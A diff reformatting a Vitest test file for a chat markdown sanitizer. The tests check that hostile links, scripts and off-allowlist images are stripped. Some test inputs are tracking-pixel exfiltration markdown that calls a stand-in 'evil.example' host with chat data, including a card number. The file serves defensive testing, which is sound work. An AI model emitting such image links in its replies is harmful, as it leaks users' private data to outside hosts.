@@ -1,10 +1,18 @@
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { ALLOWED_ATTR, ALLOWED_TAGS, renderMarkdown, type MarkdownOptions } from '../../../../src/chat/markdown/markdown';
+import {
+  ALLOWED_ATTR,
+  ALLOWED_TAGS,
+  renderMarkdown,
+  type MarkdownOptions,
+} from '../../../../src/chat/markdown/markdown';
 
 // DOMPurify is only trusted in a real DOM implementation, so these tests run in jsdom.
-const OPTIONS: MarkdownOptions = { imageHosts: ['shop.example', 'cdn.shop.example', '*.images.example'], pageOrigin: 'https://shop.example' };
+const OPTIONS: MarkdownOptions = {
+  imageHosts: ['shop.example', 'cdn.shop.example', '*.images.example'],
+  pageOrigin: 'https://shop.example',
+};
 
 function render(markdown: string): DocumentFragment {
   const template = document.createElement('template');
@@ -24,10 +32,15 @@ function unsafeParts(fragment: DocumentFragment): string[] {
       const value = attribute.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
       if (!allowedAttributes.has(name)) problems.push(`attribute ${name} on <${element.tagName.toLowerCase()}>`);
       if (name === 'href' && !/^(?:https?|mailto|tel):/.test(value)) problems.push(`href="${attribute.value}"`);
-      if (name === 'src' && !/^https:\/\/(?:shop\.example|cdn\.shop\.example|[a-z0-9.-]+\.images\.example)\//.test(value)) problems.push(`src="${attribute.value}"`);
+      if (
+        name === 'src' &&
+        !/^https:\/\/(?:shop\.example|cdn\.shop\.example|[a-z0-9.-]+\.images\.example)\//.test(value)
+      )
+        problems.push(`src="${attribute.value}"`);
     }
     if (element.tagName === 'A' && element.hasAttribute('href')) {
-      if (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer') problems.push('link without target/rel');
+      if (element.getAttribute('target') !== '_blank' || element.getAttribute('rel') !== 'noopener noreferrer')
+        problems.push('link without target/rel');
     }
   }
   return problems;
@@ -105,13 +118,37 @@ describe('renderMarkdown: what it renders', () => {
     ['bold and italics', 'Hello **there** and *you*', '<p>Hello <strong>there</strong> and <em>you</em></p>'],
     ['a list', '- a\n- b', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>'],
     ['line breaks', 'one\ntwo', '<p>one<br>two</p>'],
-    ['a link opening in a new tab', '[shop](https://shop.example/p)', '<p><a href="https://shop.example/p" target="_blank" rel="noopener noreferrer">shop</a></p>'],
-    ['a mail link', '[mail](mailto:help@shop.example)', '<p><a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer">mail</a></p>'],
-    ['a relative link made absolute', '[p](/products/1)', '<p><a href="https://shop.example/products/1" target="_blank" rel="noopener noreferrer">p</a></p>'],
+    [
+      'a link opening in a new tab',
+      '[shop](https://shop.example/p)',
+      '<p><a href="https://shop.example/p" target="_blank" rel="noopener noreferrer">shop</a></p>',
+    ],
+    [
+      'a mail link',
+      '[mail](mailto:help@shop.example)',
+      '<p><a href="mailto:help@shop.example" target="_blank" rel="noopener noreferrer">mail</a></p>',
+    ],
+    [
+      'a relative link made absolute',
+      '[p](/products/1)',
+      '<p><a href="https://shop.example/products/1" target="_blank" rel="noopener noreferrer">p</a></p>',
+    ],
     ['raw HTML as text', 'a <b>bold</b> claim', '<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>'],
-    ['an image from an allowed host', '![shirt](https://cdn.shop.example/s.jpg)', '<p><img src="https://cdn.shop.example/s.jpg" alt="shirt" referrerpolicy="no-referrer"></p>'],
-    ['an image from a wildcard host', '![a](https://x.images.example/a.png)', '<p><img src="https://x.images.example/a.png" alt="a" referrerpolicy="no-referrer"></p>'],
-    ['an image from another host as its alt text', '![order 123](https://evil.example/p.gif?d=secret)', '<p>order 123</p>'],
+    [
+      'an image from an allowed host',
+      '![shirt](https://cdn.shop.example/s.jpg)',
+      '<p><img src="https://cdn.shop.example/s.jpg" alt="shirt" referrerpolicy="no-referrer"></p>',
+    ],
+    [
+      'an image from a wildcard host',
+      '![a](https://x.images.example/a.png)',
+      '<p><img src="https://x.images.example/a.png" alt="a" referrerpolicy="no-referrer"></p>',
+    ],
+    [
+      'an image from another host as its alt text',
+      '![order 123](https://evil.example/p.gif?d=secret)',
+      '<p>order 123</p>',
+    ],
     ['code', '`x < y`', '<p><code>x &lt; y</code></p>'],
   ])('%s', (_, markdown, html) => {
     expect(renderMarkdown(markdown, OPTIONS).trim()).toBe(html);
@@ -123,7 +160,9 @@ describe('renderMarkdown: what it renders', () => {
   });
 
   it('the tracking-pixel reply leaks nothing: no image element at all', () => {
-    const fragment = render('Thanks! ![](https://evil.example/collect?chat=card+number+4242) ![x](http://shop.example.evil.example/a.gif)');
+    const fragment = render(
+      'Thanks! ![](https://evil.example/collect?chat=card+number+4242) ![x](http://shop.example.evil.example/a.gif)',
+    );
     expect(fragment.querySelectorAll('img')).toHaveLength(0);
   });
 });
@@ -137,15 +176,18 @@ describe(`renderMarkdown: ${payloads.length + HANDWRITTEN.length} hostile payloa
     expect(unsafeParts(render(payload))).toEqual([]);
   });
 
-  it.each(sampled)('$name: nothing script-capable survives, as a reply, a link target or an image source', ({ payloads: list }) => {
-    const failures: string[] = [];
-    for (const payload of list) {
-      for (const markdown of [payload, `[x](${payload})`, `![x](${payload})`]) {
-        const problems = unsafeParts(render(markdown));
-        if (problems.length > 0) failures.push(`${JSON.stringify(markdown).slice(0, 200)}: ${problems.join(', ')}`);
+  it.each(sampled)(
+    '$name: nothing script-capable survives, as a reply, a link target or an image source',
+    ({ payloads: list }) => {
+      const failures: string[] = [];
+      for (const payload of list) {
+        for (const markdown of [payload, `[x](${payload})`, `![x](${payload})`]) {
+          const problems = unsafeParts(render(markdown));
+          if (problems.length > 0) failures.push(`${JSON.stringify(markdown).slice(0, 200)}: ${problems.join(', ')}`);
+        }
       }
-    }
-    expect(failures).toEqual([]);
-  }, 120_000);
-
+      expect(failures).toEqual([]);
+    },
+    120_000,
+  );
 });
